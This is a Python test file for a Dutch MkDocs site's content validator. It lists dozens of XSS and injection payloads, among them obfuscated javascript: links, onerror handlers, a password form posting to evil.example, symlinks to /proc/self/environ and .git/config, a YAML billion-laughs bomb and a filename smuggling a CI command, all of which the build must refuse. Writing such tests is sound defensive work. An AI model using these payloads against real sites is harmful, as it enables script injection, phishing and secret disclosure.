"""The regression corpus of unsafe and malformed contributions (issue 11), each through the check
and the strict build.

Every case is one file (or a few) of its own, so all cases of a kind run in one tree:

- REFUSED: the check and the build both refuse it with the expected Dutch message, naming the
  file (``path:line: key: ...``), and the build writes nothing. One check and one build for all.
- REFUSED_REPORTS: the same for report definitions (the build only reads those once all content
  is in order, so they have a tree of their own).
- HARMLESS: published, and nothing unsafe in the built page: no on* attributes, no script URLs, no
  inline script that the theme did not put there (each allowed by its hash in the page's CSP), no
  element that loads from another host. All in one build, one page per case, plus a title that
  reaches the theme unescaped past the check (a test hook stands in for a future gap).
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import textwrap
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import LEGACY_MINIMAL as MINIMAL, copy_repo, write
from kennisschakels import csp

ESSAY = textwrap.dedent(MINIMAL["essays/een-essay.md"]).lstrip("\n")
EVIL_TITLE = "Piet <svg/onload=alert(1)>"


@dataclass(frozen=True)
class Symlink:
    target: str


def essay_with(body: str, front: str = "") -> str:
    text = ESSAY.replace("---\nTekst van het essay.", front + "---\nTekst van het essay.") if front else ESSAY
    return text + "\n" + textwrap.dedent(body).strip("\n") + "\n"


def page(title: str, body: str, extra: str = "") -> str:
    return f"---\ntitle: {title}\ndescription: Een pagina.\n{extra}---\n{textwrap.dedent(body).strip()}\n"


REGION = textwrap.dedent(MINIMAL["regions/twente/index.md"]).lstrip("\n")
BOMB = ('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n'
        'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n'
        'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n')

# (case, files, (path, expected text in the message of that path))
_BODIES = [
    # --- scripts and event handlers ---------------------------------------------------------------
    ("script", "<script>alert(1)</script>", "inhoud: HTML-element <script> is niet toegestaan"),
    ("script-hoofdletters", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "HTML-element <script> is niet toegestaan"),
    ("svg-onload", "<svg/onload=alert(1)>", "HTML: attribuut onload op <svg> is niet toegestaan"),
    ("img-onerror-zonder-spatie", '<img src="x"onerror="alert(1)">', "attribuut onerror op <img> is niet toegestaan"),
    ("entiteit-in-attribuutnaam", '<p o&#110;click="alert(1)">x</p>', "attribuut o&#110;click op <p> is niet toegestaan"),
    ("template", "<template><img src=x onerror=alert(1)></template>", "HTML-element <template> is niet toegestaan"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     "HTML-element <noscript> is niet toegestaan"),
    ("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "HTML-element <math> is niet toegestaan"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "attribuut xlink:href op <a> is niet toegestaan"),
    ("css-expression", '<p style="width: expression(alert(1))">x</p>', "attribuut style op <p> is niet toegestaan"),
    ("id-van-het-thema", '<div id="__config">x</div>', "id '__config' op <div> is niet toegestaan"),
    ("klasse-van-het-thema", '<p class="md-sidebar">x</p>', "klasse 'md-sidebar' op <p> is niet toegestaan"),
    ("php", "<?php echo 1; ?>", "HTML-declaratie '<?php echo 1' is niet toegestaan"),
    # --- script URLs ------------------------------------------------------------------------------
    ("href-entiteit", '<a href="&#106;avascript:alert(1)">x</a>', "HTML: link naar javascript: is niet toegestaan"),
    ("href-colon", '<a href="javascript&colon;alert(1)">x</a>', "HTML: link naar javascript: is niet toegestaan"),
    ("href-tab", '<a href="java&#x09;script:alert(1)">x</a>', "HTML: link naar javascript: is niet toegestaan"),
    ("href-spaties", '<a href="  javascript:alert(1)">x</a>', "HTML: link naar javascript: is niet toegestaan"),
    ("href-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     "HTML: link naar data: is niet toegestaan"),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>', "link naar vbscript: is niet toegestaan"),
    ("href-file", '<a href="file:///etc/passwd">x</a>', "link naar file: is niet toegestaan"),
    ("markdown-link", "[x](javascript:alert(1))", "inhoud: link naar javascript: is niet toegestaan"),
    ("markdown-link-haken", "[x](<javascript:alert(1)>)", "inhoud: link naar javascript: is niet toegestaan"),
    ("markdown-link-hoofdletters", "[x]( JaVaScRiPt:alert(1))", "inhoud: link naar javascript: is niet toegestaan"),
    ("autolink", "<javascript:alert(1)>", "inhoud: link naar javascript: is niet toegestaan"),
    ("referentielink", "[x][r]\n\n[r]: javascript:alert(1)", "inhoud: link naar javascript: is niet toegestaan"),
    ("link-zonder-schema", "[x](//evil.example/)", "link zonder schema naar een andere host (//evil.example/)"),
    # --- elements that load, navigate or post elsewhere ------------------------------------------
    ("base", '<base href="//evil.example/">', "HTML-element <base> is niet toegestaan"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "HTML-element <meta> is niet toegestaan"),
    ("meta-refresh-in-tabel", '| a |\n|---|\n| <meta http-equiv="refresh" content="0"> |', "HTML-element <meta> is niet toegestaan"),
    ("formulier-wachtwoord", '<form action="https://evil.example/"><input type="password" name="p"></form>',
     "HTML-element <form> is niet toegestaan"),
    ("input-formaction", '<input type="submit" formaction="javascript:alert(1)">', "HTML-element <input> is niet toegestaan"),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>', "HTML-element <button> is niet toegestaan"),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "HTML-element <iframe> is niet toegestaan"),
    ("object", '<object data="https://evil.example/x.swf"></object>', "HTML-element <object> is niet toegestaan"),
    ("embed", '<embed src="https://evil.example/x.swf">', "HTML-element <embed> is niet toegestaan"),
    ("video-poster", '<video poster="https://evil.example/p.png"></video>', "HTML-element <video> is niet toegestaan"),
    ("audio", '<audio src="https://evil.example/a.mp3"></audio>', "HTML-element <audio> is niet toegestaan"),
    ("track", '<track src="https://evil.example/t.vtt">', "HTML-element <track> is niet toegestaan"),
    ("source-srcset", '<source srcset="https://evil.example/a.png">', "HTML-element <source> is niet toegestaan"),
    ("picture", '<picture><img src="a.png" alt="a"></picture>', "HTML-element <picture> is niet toegestaan"),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">', "HTML-element <link> is niet toegestaan"),
    ("style-import", "<style>@import url(https://evil.example/x.css);</style>", "HTML-element <style> is niet toegestaan"),
    ("style-achtergrond", '<p style="background:url(https://evil.example/x.png)">x</p>', "attribuut style op <p> is niet toegestaan"),
    ("img-srcset", '<img src="a.png" alt="a" srcset="https://evil.example/a.png 2x">', "attribuut srcset op <img> is niet toegestaan"),
    ("img-protocol-relatief", '<img src="//evil.example/x.png" alt="x">', "afbeelding van een andere host (//evil.example/x.png)"),
    ("img-backslash", '<img src="\\\\evil.example\\x.png" alt="x">', "afbeelding van een andere host"),
    ("markdown-img-protocol-relatief", "![x](//evil.example/x.png)", "afbeelding van buiten de repository (//evil.example/x.png)"),
    ("markdown-img-data", "![x](data:image/png;base64,iVBORw0KGgo=)", "afbeelding van buiten de repository (data:"),
    ("referentie-afbeelding", "![x][i]\n\n[i]: https://evil.example/x.png",
     "afbeelding van een andere host (https://evil.example/x.png) is niet toegestaan"),
    # --- HTML inside Markdown constructs, attr_list ----------------------------------------------
    ("voetnoot", "Tekst[^1].\n\n[^1]: <img src=x onerror=alert(1)>", "attribuut onerror op <img> is niet toegestaan"),
    ("admonitie-titel", '!!! note "<img src=x onerror=alert(1)>"\n    Tekst.', "attribuut onerror op <img> is niet toegestaan"),
    ("afkorting", "HTML is leuk.\n\n*[HTML]: <img src=x onerror=alert(1)>", "attribuut onerror op <img> is niet toegestaan"),
    ("definitielijst", "Term\n:   <img src=x onerror=alert(1)>", "attribuut onerror op <img> is niet toegestaan"),
    ("attr-list-alinea", 'Alinea.\n{: tabindex="0" autofocus="" onfocus="alert(1)" }',
     "inhoud: attribuut onfocus in '{: ... }' is niet toegestaan"),
    ("attr-list-kop", "## Kop {#kop onclick=alert(1)}", "attribuut onclick in '{: ... }' is niet toegestaan"),
    ("attr-list-afbeelding-src", '![x](a.png){: src="https://evil.example/x.png" }', "attribuut src in '{: ... }' is niet toegestaan"),
]

REFUSED = [(name, {f"essays/g-{name}.md": essay_with(body)}, (f"essays/g-{name}.md", expected))
           for name, body, expected in _BODIES]
REFUSED += [
    # --- front-matter texts shown through Markdown or printed by the theme -----------------------
    ("titel-met-html", {"docs/mensen/piet.md": f'---\ntitle: "{EVIL_TITLE}"\ndescription: Expert.\n---\nTekst.\n'},
     ("docs/mensen/piet.md", "2: title: bevat HTML ('<svg/onload=alert(1)')")),
    ("beschrijving-met-html", {"essays/g-beschrijving.md": ESSAY.replace("Een essay over samenwerken.", '"<b>vet</b>"')},
     ("essays/g-beschrijving.md", "3: description: bevat HTML ('<b>vet</b>')")),
    ("stuurteken-in-titel", {"essays/g-stuurteken.md": ESSAY.replace("title: Een essay", 'title: "Een \\a essay"')},
     ("essays/g-stuurteken.md", "2: title: bevat een onzichtbaar stuurteken")),
    ("netwerk-attr-list", {"regions/drenthe/index.md": REGION.replace("Twente", "Drenthe").replace(
        "maintainers: []", 'maintainers: []\nnetwork: "Netwerk {: onmouseover=alert(1) }"')},
     ("regions/drenthe/index.md", "network: bevat opmaakcode voor attributen")),
    ("vraag-attr-list", {"regions/groningen/index.md": REGION.replace("Twente", "Groningen").replace(
        "- Hoe nemen we bodemenergie mee in de warmteplannen?",
        '- "Hoe nemen we bodemenergie mee in de warmteplannen? {: onmouseover=alert(1) }"')},
     ("regions/groningen/index.md", "8: questions: bevat opmaakcode voor attributen")),
    # --- files ---------------------------------------------------------------------------------
    ("symlink-environ", {"regions/twente/praktijk/kaart.pdf": Symlink("/proc/self/environ")},
     ("regions/twente/praktijk/kaart.pdf", "1: bestand: is een symbolische link")),
    ("symlink-git-config", {"regions/twente/praktijk/config.pdf": Symlink("../../../.git/config")},
     ("regions/twente/praktijk/config.pdf", "1: bestand: is een symbolische link")),
    ("symlink-map", {"docs/gedeeld": Symlink("/etc")}, ("docs/gedeeld", "is een symbolische link naar een map")),
    ("symlink-markdown", {"essays/gelinkt.md": Symlink("een-essay.md")}, ("essays/gelinkt.md", "is een symbolische link")),
    ("bijlage-in-pdf", {"docs/lessen/les-bijlage.md": textwrap.dedent(MINIMAL["docs/lessen/les-een.md"]).lstrip("\n")
                        .replace("number: 1", "number: 2") + '<link rel="attachment" href="file:///etc/passwd">\n'},
     ("docs/lessen/les-bijlage.md", "HTML-element <link> is niet toegestaan")),
    ("html-in-assets", {"docs/assets/evil.html": "<script>alert(1)</script>\n"},
     ("docs/assets/evil.html", "1: bestand: staat in docs/assets/ maar wordt niet door mkdocs.yml gebruikt")),
    ("js-in-assets", {"docs/assets/extra.js": "alert(1)\n"}, ("docs/assets/extra.js", "staat in docs/assets/")),
    ("html-in-rapportages", {"docs/rapportages/evil.html": "<script>alert(1)</script>\n"},
     ("docs/rapportages/evil.html", "bestandstype '.html' hoort niet in docs/rapportages/")),
    ("html-in-well-known", {"docs/.well-known/evil.html": "<script>alert(1)</script>\n"},
     ("docs/.well-known/evil.html", "staat in een map .well-known")),
    ("well-known-dieper", {"docs/programma/.well-known/x.js": "alert(1)\n"},
     ("docs/programma/.well-known/x.js", "staat in een map .well-known")),
    ("html-in-underscore-map", {"docs/_intern/evil.html": "<script>alert(1)</script>\n"},
     ("docs/_intern/evil.html", "bestandstype '.html' is niet toegestaan")),
    ("svg-bij-regio", {"regions/twente/kaart.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>\n'},
     ("regions/twente/kaart.svg", "SVG kan script bevatten")),
    ("js-bij-essays", {"essays/script.js": "alert(1)\n"}, ("essays/script.js", "bestandstype '.js' is niet toegestaan")),
    ("htm-bij-regio", {"regions/twente/pagina.htm": "<p>x</p>\n"}, ("regions/twente/pagina.htm", "bestandstype '.htm'")),
    ("bestandsnaam-met-regeleinde", {"regions/twente/praktijk/a\n::warning title=x::pwned.pdf": b"%PDF-1.4\n"},
     ("regions/twente/praktijk/a\\n::warning title=x::pwned.pdf", "naam bevat een regeleinde")),
    # --- YAML and encodings ----------------------------------------------------------------------
    ("yaml-bom", {"essays/g-bom.md": essay_with("", BOMB)}, ("essays/g-bom.md", "front-matter: anker '&a' (YAML-anker)")),
    ("yaml-alias", {"essays/g-alias.md": ESSAY.replace("title: Een essay", "title: &t Een essay\nnetwork: *t")},
     ("essays/g-alias.md", "2: front-matter: anker '&t'")),
    ("yaml-diep", {"essays/g-diep.md": essay_with("", "tags: " + "[" * 5000 + "]" * 5000 + "\n")},
     ("essays/g-diep.md", "front-matter: is te diep genest")),
    ("yaml-diep-open", {"essays/g-diep-open.md": essay_with("", "tags: " + "[" * 5000 + "\n")},
     ("essays/g-diep-open.md", "front-matter: is te diep genest")),
    ("yaml-groot", {"essays/g-groot.md": essay_with("", "tags: [" + ", ".join(["bodem"] * 12000) + "]\n")},
     ("essays/g-groot.md", "kB groot; hoogstens 64 kB")),
    ("latin-1", {"essays/g-latin.md": essay_with("Caf\u00e9 en cr\u00e8me.").encode("latin-1")},
     ("essays/g-latin.md", "bestand: is geen UTF-8 (bijvoorbeeld Latin-1 of Windows-1252); sla het bestand op als UTF-8")),
    ("utf-16", {"essays/g-utf16.md": essay_with("Tekst.").encode("utf-16")},
     ("essays/g-utf16.md", "1: bestand: is opgeslagen als UTF-16; sla het bestand op als UTF-8")),
]

REPORT_PAGES = {
    "docs/rapportages/index.md": page("Rapportages", "Alle rapportages."),
    "docs/rapportages/zonder-titel/index.md": page("Zonder titel", "Tekst."),
    "docs/rapportages/zonder-titel/inleiding.md": page("Inleiding", "Tekst."),
    "docs/rapportages/alias/index.md": page("Alias", "Tekst."),
}
REPORT = ("date: 2022-09\npublisher: VNG\nauthor: Programma\npage: rapportages/{id}/index.md\n"
          "chapters:\n  - page: rapportages/{id}/inleiding.md\n")
REFUSED_REPORTS = [
    ("rapport-zonder-titel", {"docs/rapportages/zonder-titel.yml": REPORT.format(id="zonder-titel")},
     ("docs/rapportages/zonder-titel.yml", "1: title: ontbreekt")),
    ("rapport-alias", {"docs/rapportages/alias.yml": "title: &t Titel\nsubtitle: *t\n" + REPORT.format(id="alias")},
     ("docs/rapportages/alias.yml", "1: rapport: anker '&t' (YAML-anker)")),
]

# (case, Markdown body of docs/veilig/<case>.md, text the page must show)
HARMLESS = [
    ("code-met-script", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    ("inline-code", "Schrijf nooit `<img src=x onerror=alert(1)>` in een pagina.", "<img src=x onerror=alert(1)>"),
    ("entiteiten", "Zo schrijf je een tag: &lt;script&gt; en &#60;b&#62;.", "<script>"),
    ("kleiner-dan", "Grondwater op 5 m < maaiveld en a<b.", "a<b"),
    ("javascript-als-tekst", "Het woord javascript: is hier gewone tekst.", "javascript: is hier"),
    ("gewone-links", "[site](https://example.org/pad?x=1&y=2), [mail](mailto:redactie@example.org) en "
                     "[pagina](../index.md).", "site"),
    ("uitklap-en-admonitie", '??? note "Meer weten"\n    Tekst in een uitklapblok.\n\n!!! tip\n    Een tip.', "Meer weten"),
    ("attr-list-toegestaan", "## Kop met eigen id {#eigen-kop .belangrijk}\n\nAlinea.\n{: .ks-bron }", "Kop met eigen id"),
    ("accolades", "Een verzameling {2022} en {a, b} is gewone tekst.", "{2022}"),
    ("kop-met-code", "## De tag `<script>` in een kop\n\nTekst.", "De tag"),
    ("tabel-uitgelijnd", "| links | midden |\n|:--|:--:|\n| a | b |", "midden"),
    ("voetnoot", "Tekst met een voetnoot[^1].\n\n[^1]: De noot, met *nadruk*.", "De noot"),
    ("html-toegestaan", '<details><summary>Samenvatting</summary>\n\n<p class="note">Tekst.</p>\n</details>\n\n'
                        '<abbr title="Kennisschakel">KS</abbr>', "Samenvatting"),
    ("afbeelding-relatief", "![Een plaatje](plaatje.png)", ""),
    ("titel", "De titel van deze pagina komt via een testhook langs de controle.", ""),
]
TITLE_PAGE = "veilig/titel.md"
INJECTION_HOOK = f'''
"""Test hook, listed before the adapter: a page title and a section name that contain HTML reach the
theme, as if the check had missed them (the site's page meta is where the theme takes titles from)."""
import dataclasses

from kennisschakels import site as _site

EVIL = {EVIL_TITLE!r}
_page = _site.Site.page


def _injected(self, uri):
    page = _page(self, uri)
    if uri == {TITLE_PAGE!r}:
        page = dataclasses.replace(page, meta={{**page.meta, "title": EVIL}})
    return page


_site.Site.page = _injected


def on_nav(nav, config, files):
    for item in nav.items:
        if getattr(item, "title", None) == "Veilig":
            item.title = EVIL + " sectie"
    return nav
'''

PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82")


def put(root: Path, files: dict) -> None:
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Symlink):
            os.symlink(content.target, path)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")


def run(root: Path, *command: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1"}
    env.pop("GITHUB_ACTIONS", None)
    return subprocess.run([sys.executable, "-m", *command], cwd=root, capture_output=True, text=True,
                          env=env, timeout=300)


def refused_tree(tmp_path_factory, name: str, cases: list, extra: dict | None = None) -> dict:
    root = copy_repo(tmp_path_factory.mktemp(name), content=False)
    write(root, MINIMAL)
    put(root, extra or {})
    for _, files, _ in cases:
        put(root, files)
    with ThreadPoolExecutor(2) as pool:
        checked = pool.submit(run, root, "kennisschakels", "check")
        built = pool.submit(run, root, "mkdocs", "build", "--strict")
        check, build = checked.result(), built.result()
    site = root / "site"
    return {"check": check, "build": build, "written": sorted(p.name for p in site.rglob("*")) if site.exists() else []}


@pytest.fixture(scope="module")
def refused(tmp_path_factory) -> dict:
    return refused_tree(tmp_path_factory, "geweigerd", REFUSED)


@pytest.fixture(scope="module")
def refused_reports(tmp_path_factory) -> dict:
    return refused_tree(tmp_path_factory, "rapporten", REFUSED_REPORTS, REPORT_PAGES)


def assert_refused(outcome: dict, path: str, expected: str) -> None:
    for name in ("check", "build"):
        result = outcome[name]
        assert result.returncode != 0, f"{name} accepted the case"
        lines = (result.stdout + result.stderr).splitlines()
        assert any(f"{path}:" in line and expected in line for line in lines), \
            f"{name}: no message for {path!r} with {expected!r}:\n" + "\n".join(lines[-60:])
    assert outcome["written"] == [], f"the refused build wrote {outcome['written'][:5]}"


@pytest.mark.parametrize("case, files, expected", REFUSED, ids=[c[0] for c in REFUSED])
def test_refused(refused, case, files, expected):
    assert_refused(refused, *expected)


@pytest.mark.parametrize("case, files, expected", REFUSED_REPORTS, ids=[c[0] for c in REFUSED_REPORTS])
def test_refused_report(refused_reports, case, files, expected):
    assert_refused(refused_reports, *expected)


def test_every_class_of_the_issue_is_covered():
    assert len(REFUSED) + len(REFUSED_REPORTS) + len(HARMLESS) >= 60


# --- published harmlessly ----------------------------------------------------------------------

class _Page(HTMLParser):
    """What a built page contains that could run script or load from another host."""

    LOADERS = {"img": ("src", "srcset"), "script": ("src",), "iframe": ("src",), "embed": ("src",),
               "object": ("data",), "video": ("src", "poster"), "audio": ("src",), "source": ("src", "srcset"),
               "track": ("src",), "input": ("src",)}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.scripts: list[str] = []   # inline script bodies
        self.policy = ""
        self.text: list[str] = []
        self._script: list[str] | None = None
        self._title: list[str] | None = None
        self.title = ""
        self._article = 0

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}>")
            if name in ("href", "src", "action", "formaction", "poster", "data", "xlink:href") and value:
                scheme = re.sub(r"[\x00-\x20]", "", value).split(":", 1)[0].lower() if ":" in value else ""
                if scheme in ("javascript", "vbscript", "data", "file"):
                    self.findings.append(f"<{tag} {name}={value[:40]}>")
        for name in self.LOADERS.get(tag, ()):
            value = (values.get(name) or "").strip()
            if re.match(r"^(?:https?:|//|\\)", value) or "//" in value and name == "srcset":
                self.findings.append(f"<{tag} {name}> from another host: {value[:40]}")
        if tag == "link" and values.get("rel") in ("stylesheet", "icon", "preload", "prefetch", "modulepreload") \
                and re.match(r"^(?:https?:|//)", values.get("href") or ""):
            self.findings.append(f"<link rel={values.get('rel')}> from another host")
        if tag in ("base", "iframe", "object", "embed", "frame", "frameset"):
            self.findings.append(f"<{tag}>")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "refresh":
            self.findings.append("<meta http-equiv=refresh>")
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            self.policy = values.get("content") or ""
        if tag == "article":
            self._article += 1
        if self._article and tag in ("form", "input", "button", "style", "script", "link", "meta"):
            self.findings.append(f"<{tag}> in the content")
        if tag == "script" and not values.get("src"):
            self._script = [] if "json" not in (values.get("type") or "") else None
        if tag == "title":
            self._title = []

    def handle_endtag(self, tag):
        if tag == "script" and self._script is not None:
            self.scripts.append("".join(self._script))
            self._script = None
        if tag == "title" and self._title is not None:
            self.title, self._title = "".join(self._title), None
        if tag == "article":
            self._article -= 1

    def handle_data(self, data):
        if self._script is not None:
            self._script.append(data)
        if self._title is not None:
            self._title.append(data)
        self.text.append(data)


@pytest.fixture(scope="module")
def harmless_site(tmp_path_factory) -> Path:
    root = copy_repo(tmp_path_factory.mktemp("onschadelijk"), content=False)
    write(root, MINIMAL)
    put(root, {"docs/veilig/index.md": page("Veilig", "Pagina's die er gevaarlijk uitzien maar het niet zijn."),
               "docs/veilig/plaatje.png": PNG})
    for case, body, _ in HARMLESS:
        put(root, {f"docs/veilig/{case}.md": page(case.replace("-", " ").capitalize(), body)})
    (root / "hooks" / "test_injection.py").write_text(INJECTION_HOOK, encoding="utf-8")
    config = (root / "mkdocs.yml").read_text(encoding="utf-8")
    assert "\n  - hooks/adapter.py" in config
    (root / "mkdocs.yml").write_text(config.replace("\n  - hooks/adapter.py", "\n  - hooks/test_injection.py\n  - hooks/adapter.py"),
                                     encoding="utf-8")
    result = run(root, "mkdocs", "build", "--strict")
    assert result.returncode == 0, result.stderr[-3000:]
    return root / "site"


@pytest.fixture(scope="module")
def theme_patterns() -> list[re.Pattern]:
    import material

    templates = Path(material.__file__).parent / "templates"
    return csp.theme_script_patterns([Path(__file__).resolve().parent.parent / "overrides", templates])


def parsed(path: Path) -> _Page:
    parser = _Page()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


def assert_harmless(page: _Page, patterns: list[re.Pattern]) -> None:
    assert page.findings == []
    assert page.policy.startswith("default-src 'self'")
    for body in page.scripts:
        assert any(p.fullmatch(body) for p in patterns), f"inline script not from the theme: {body[:80]}"
        assert csp.script_hash(body) in page.policy


@pytest.mark.parametrize("case, body, shows", HARMLESS, ids=[c[0] for c in HARMLESS])
def test_published_harmlessly(harmless_site, theme_patterns, case, body, shows):
    page = parsed(harmless_site / "veilig" / case / "index.html")
    assert_harmless(page, theme_patterns)
    assert shows in "".join(page.text)


def test_title_with_html_is_text_everywhere(harmless_site, theme_patterns):
    """The raw sinks of Material (header, navigation, footer, <title>) and the escaped ones
    (meta tags) all show the literal title, and no element is made of it."""
    own = harmless_site / "veilig" / "titel" / "index.html"
    html = own.read_text(encoding="utf-8")
    page = parsed(own)
    assert_harmless(page, theme_patterns)
    assert page.title.startswith(EVIL_TITLE + " - ")
    text = "".join(page.text)
    assert text.count(EVIL_TITLE) >= 3  # <title>, header, navigation, heading
    assert EVIL_TITLE + " sectie" in text
    assert "&amp;lt;" not in html  # escaped once, not twice
    assert 'content="Piet &lt;svg/onload=alert(1)&gt;"' in html  # og:title, through Jinja's |e
    neighbour = parsed(harmless_site / "veilig" / "tabel-uitgelijnd" / "index.html")
    assert_harmless(neighbour, theme_patterns)  # the footer and navigation of other pages list it too
    assert EVIL_TITLE in "".join(neighbour.text)


def test_every_built_page_is_harmless(harmless_site, theme_patterns):
    for html in sorted(harmless_site.rglob("*.html")):
        assert_harmless(parsed(html), theme_patterns)
